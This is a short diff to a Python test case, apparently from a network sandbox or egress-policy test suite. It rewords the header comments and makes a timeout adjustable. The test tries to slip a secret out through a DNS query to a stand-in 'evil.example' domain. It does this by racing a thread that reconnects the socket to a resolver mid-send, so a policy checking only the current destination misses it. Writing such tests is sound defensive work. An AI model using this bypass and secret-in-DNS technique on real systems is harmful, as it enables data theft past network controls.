@@ -1,15 +1,15 @@
 # class: network
 # rule: outbound_connectivity
 # policy: names.yaml
-# success: while one thread sends, another connects the socket to the resolver in place of this machine
+# success: during a send, another thread connects the socket to the resolver instead of this machine
 # proof: query
 # needs: resolver
-# unreported: a policy that only reports sends as the program asked, to wherever the socket is connected by then
+# unreported: a policy that only reports sends to wherever the socket is connected at that moment
 import socket
 import threading
 import time
 
-from attack import RESOLVER, SECRET, attempt
+from attack import RESOLVER, SECRET, attempt, patience
 
 
 def labels(*names):
@@ -27,7 +27,7 @@ def ask():
     out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     out.bind(("127.0.0.1", 0))
     out.setblocking(False)
-    end = time.monotonic() + 3
+    end = time.monotonic() + patience(3)
     packet = question(SECRET, "evil", "example")
 
     def connect():
